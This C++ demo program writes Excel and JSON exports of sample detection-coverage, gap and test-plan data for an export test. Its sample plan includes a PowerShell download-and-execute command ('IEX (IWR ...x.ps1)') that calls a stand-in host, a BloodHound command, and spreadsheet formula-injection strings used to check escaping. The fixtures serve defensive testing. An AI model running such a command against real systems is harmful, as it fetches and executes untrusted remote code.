// Writes the Excel exports of hand-built responses to a folder, with each
// response as proto3 JSON beside it, for //server/export:xlsx_writer_test
// (which reads the workbooks back with openpyxl):
//   coverage.xlsx + coverage.json, gaps.xlsx + gaps.json (+ the coverage),
//   plan.xlsx + plan.json
//
//   xlsx_demo --out_dir=DIR [--synthetic=700]
//
// The coverage is SampleCoverage() (or --synthetic=N techniques) with
// kill-chain phases; the gaps are SampleGaps() plus one gap whose detection
// text exceeds Excel's cell limit and whose name starts with '='; the plan
// has three steps, one with two tests.
#include <cstdio>
#include <string>

#include "absl/flags/flag.h"
#include "absl/flags/parse.h"
#include "google/protobuf/util/json_util.h"
#include "server/export/demo_files.h"
#include "server/export/sample_coverage.h"
#include "server/export/xlsx_writer.h"

ABSL_FLAG(std::string, out_dir, "", "Folder to write the exports to.");
ABSL_FLAG(int, synthetic, 0,
          "Use a synthetic response of this many techniques (0: the sample).");

namespace {

namespace exporter = cov::server::exporter;
using exporter::WriteDemoFile;

bool WriteJson(const std::string& path,
               const google::protobuf::Message& message) {
  std::string json;
  if (!google::protobuf::util::MessageToJsonString(message, &json).ok()) {
    return false;
  }
  return WriteDemoFile(path, json);
}

bool WriteXlsx(const std::string& path,
               const absl::StatusOr<std::string>& bytes) {
  if (!bytes.ok()) {
    std::fprintf(stderr, "%s: %s\n", path.c_str(),
                 bytes.status().ToString().c_str());
    return false;
  }
  return WriteDemoFile(path, *bytes);
}

void AddPhases(cov::v1::CoverageResponse* c) {
  const char* phases[][3] = {{"delivery", "Delivery", "initial-access"},
                             {"installation", "Installation", "persistence"}};
  int order = 3;
  for (const auto& p : phases) {
    cov::v1::PhaseCoverage* pc = c->add_phases();
    pc->set_phase(p[0]);
    pc->set_name(p[1]);
    pc->set_order(order);
    order += 2;
    pc->add_tactics(p[2]);
    pc->set_potential(4);
    pc->set_covered(1);
    pc->set_ratio(0.25);
  }
  c->mutable_phases(1)->add_tactics("defense-evasion");
  c->set_killchain_mapping("cov-killchain-1");
}

cov::v1::PlanResponse SamplePlan() {
  cov::v1::PlanResponse plan;
  plan.mutable_release()->set_domain("enterprise-attack");
  plan.mutable_release()->set_version("18.1");
  plan.set_subject("G0007 APT28");
  const char* steps[][5] = {
      {"T1566.001", "Spearphishing Attachment", "initial-access", "claimed",
       "APT28 sent spearphishing emails with malicious attachments."},
      {"T1059.001", "PowerShell", "execution", "validated",
       "APT28 downloads and executes PowerShell scripts."},
      {"T1197", "BITS Jobs", "persistence", "failed",
       "=HYPERLINK(\"http://example.com\") must stay text"},
  };
  int order = 1;
  for (const auto& s : steps) {
    cov::v1::PlanStep* step = plan.add_steps();
    step->set_order(order++);
    step->set_technique_id(s[0]);
    step->set_technique_name(s[1]);
    step->set_tactic(s[2]);
    step->set_evidence(s[3]);
    step->set_procedure(s[4]);
    step->add_data_components("Process Creation");
  }
  plan.mutable_steps(1)->set_step_id("2.A.1");
  for (int i = 0; i < 2; ++i) {
    cov::v1::TestProcedure* t = plan.mutable_steps(1)->add_tests();
    t->set_guid(i == 0 ? "f3132740-55bc-48c4-bcc0-758a459cd027"
                       : "a538de64-1c74-46ed-aa60-b995ed302598");
    t->set_name(i == 0 ? "Mimikatz" : "Run BloodHound from local disk");
    t->add_platforms("windows");
    t->set_executor("powershell");
    t->set_command(i == 0 ? "IEX (IWR 'https://example.com/x.ps1')"
                          : "Invoke-BloodHound -OutputDirectory $env:Temp");
    t->set_elevation_required(i == 1);
    t->set_origin("atomics:art");
  }
  cov::v1::RuleRef* r = plan.mutable_steps(1)->add_expected_rules();
  r->set_uid("sigma:abc");
  r->set_source("sigma");
  r->set_title("Suspicious PowerShell Download");
  plan.mutable_steps(1)->set_expected_rule_count(7);
  return plan;
}

}  // namespace

int main(int argc, char** argv) {
  absl::ParseCommandLine(argc, argv);
  const std::string dir = absl::GetFlag(FLAGS_out_dir);
  const int synthetic = absl::GetFlag(FLAGS_synthetic);
  if (dir.empty()) {
    std::fprintf(stderr, "usage: xlsx_demo --out_dir=DIR [--synthetic=N]\n");
    return 2;
  }
  cov::v1::CoverageResponse coverage =
      synthetic > 0 ? exporter::SyntheticCoverage(synthetic)
                    : exporter::SampleCoverage();
  AddPhases(&coverage);
  cov::v1::GapsResponse gaps = exporter::SampleGaps();
  cov::v1::Gap* long_gap = gaps.add_gaps();
  long_gap->set_technique_id("T1195");
  long_gap->set_name("=1+1 Supply Chain Compromise");
  long_gap->set_score(2);
  long_gap->add_tactics("initial-access");
  long_gap->add_named_groups("G0007 APT28");
  long_gap->set_user_count(9);
  std::string detection;
  while (detection.size() < 40000)
    detection += "Monitor \xC3\xA9v\xC3\xA9nements. ";
  long_gap->set_detection(detection);
  auto* proc = long_gap->add_procedures();
  proc->set_id("G0007");
  proc->set_name("APT28");
  const cov::v1::PlanResponse plan = SamplePlan();

  const bool ok =
      WriteJson(dir + "/coverage.json", coverage) &&
      WriteJson(dir + "/gaps.json", gaps) &&
      WriteJson(dir + "/plan.json", plan) &&
      WriteXlsx(dir + "/coverage.xlsx", exporter::CoverageXlsx(coverage)) &&
      WriteXlsx(dir + "/gaps.xlsx", exporter::GapsXlsx(coverage, gaps)) &&
      WriteXlsx(dir + "/plan.xlsx", exporter::PlanXlsx(plan));
  return ok ? 0 : 1;
}
